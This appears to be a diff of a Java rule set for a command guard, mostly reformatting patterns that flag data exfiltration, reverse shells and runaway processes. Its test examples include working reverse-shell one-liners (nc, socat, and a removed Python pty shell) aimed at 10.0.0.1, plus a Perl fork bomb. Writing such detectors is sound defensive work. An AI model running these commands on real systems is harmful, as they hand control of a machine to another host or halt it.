@@ -15,19 +15,26 @@ final class TransferRules {
                                     "transfer.exfiltrate",
                                     HIGH,
                                     "Sends keys, passwords or whole databases to another machine.",
-                                    "curl|wget|http|https|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|"
-                                            + "tftp|aws|gsutil|mail|mailx|sendmail|mutt|rclone|dig|nslookup|host|ping|openssl|croc|wormhole|nc.openbsd|nc.traditional|lftp|invoke-webrequest|irm|iwr|invoke-restmethod|gh|pastebinit|swaks|logger|smbclient %secret|dump|history",
-                                    "curl|http|https|invoke-webrequest|iwr|irm|"
-                                            + "invoke-restmethod any@secret|auth -F|-d|--data|-T|--upload-file|--form|--data-binary|--data-raw|--data-urlencode|--json|-infile|-body|-method",
-                                    "curl|wget|http any@secret --post-file|--body-file|-T|--upload-file|-F|"
-                                            + "-d|--data-binary",
+                                    "curl|wget|http|https|nc|ncat|netcat|socat|telnet|ssh|scp|"
+                                            + "sftp|ftp|tftp|aws|gsutil|mail|mailx|sendmail|mutt|"
+                                            + "rclone|dig|nslookup|host|ping|openssl|croc|"
+                                            + "wormhole|nc.openbsd|nc.traditional|lftp|"
+                                            + "invoke-webrequest|irm|iwr|invoke-restmethod|gh|"
+                                            + "pastebinit|swaks|logger|smbclient %secret|dump|"
+                                            + "history",
+                                    "curl|http|https|invoke-webrequest|iwr|irm|invoke-restmethod "
+                                            + "any@secret|auth -F|-d|--data|-T|--upload-file|"
+                                            + "--form|--data-binary|--data-raw|--data-urlencode|"
+                                            + "--json|-infile|-body|-method",
+                                    "curl|wget|http any@secret --post-file|--body-file|-T|"
+                                            + "--upload-file|-F|-d|--data-binary",
                                     "wget --post-file|--body-file",
                                     "scp|sftp|rclone|croc|smbclient|lftp @secret|auth @remote",
-                                    "curl|http -F|-d|-T|--data|--data-binary|--upload-file|--data-raw|"
-                                            + "--form|--data-urlencode|--json %identity",
+                                    "curl|http -F|-d|-T|--data|--data-binary|--upload-file|"
+                                            + "--data-raw|--form|--data-urlencode|--json %identity",
                                     "curl|wget|http|dig|nslookup|host|ping %system",
-                                    "nc|ncat|netcat|socat|telnet|mail|sendmail|mailx|"
-                                            + "nc.openbsd %system|identity",
+                                    "nc|ncat|netcat|socat|telnet|mail|sendmail|mailx|nc.openbsd "
+                                            + "%system|identity",
                                     "tftp|ftp ** put **",
                                     "dig|nslookup|host|ping ~$(",
                                     "croc|wormhole send @secret",
@@ -45,8 +52,8 @@ final class TransferRules {
                                     "transfer.reverse-shell",
                                     CRITICAL,
                                     "Lets another machine control this one.",
-                                    "nc|ncat|netcat|nc.traditional|nc.openbsd|socat|telnet -e|-c|--exec|"
-                                            + "--sh-exec|-sh-exec",
+                                    "nc|ncat|netcat|nc.traditional|nc.openbsd|socat|telnet -e|-c|"
+                                            + "--exec|--sh-exec|-sh-exec",
                                     "nc|ncat|netcat|nc.traditional|nc.openbsd|socat|telnet %shell",
                                     "socat ~exec:|system:",
                                     "openssl s_client %shell",
@@ -55,15 +62,12 @@ final class TransferRules {
                                     "nc|ncat|netcat ~/bin/sh|/bin/bash|cmd.exe|powershell",
                                     "socat ~pty,|tcp-listen:*exec",
                                     "xterm -display|--display",
-                                    "pwncat|pwncat-cs|villain|sliver-server|chisel|"
-                                            + "gs-netcat **",
+                                    "pwncat|pwncat-cs|villain|sliver-server|chisel|gs-netcat **",
                                     "websocat ~exec:",
                                     "code remote-shell **",
                                     "code ** remote-shell **")
                             .instead("nc -z localhost 22")
-                            .matches(
-                                    "nc -e /bin/sh 10.0.0.1 4444",
-                                    "socat tcp:10.0.0.1:1 exec:sh")
+                            .matches("nc -e /bin/sh 10.0.0.1 4444", "socat tcp:10.0.0.1:1 exec:sh")
                             .not("nc -z host 22"),
                     Rule.of(
                                     "transfer.open-door",
@@ -96,15 +100,11 @@ final class TransferRules {
                             .matches("curl -X DELETE http://localhost:9200/index")
                             .not("curl -X GET http://localhost"),
                     Rule.of(
-                                    "transfer.code",
+                                    "transfer.multiplies",
                                     CRITICAL,
-                                    "Opens the machine to others, or multiplies until it stands still.",
-                                    "code remote-shell|multiplies|becomes-root|downloaded|"
-                                            + "hidden **",
-                                    "code ** remote-shell|multiplies|becomes-root|downloaded|"
-                                            + "hidden **")
-                            .matches(
-                                    "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'")
+                                    "Starts copies of itself until the machine stands still.",
+                                    "code ** multiplies **")
+                            .matches("perl -e 'fork while fork'")
                             .not("python3 -c 'print(1)'"),
                     Rule.of(
                                     "transfer.hidden-code",
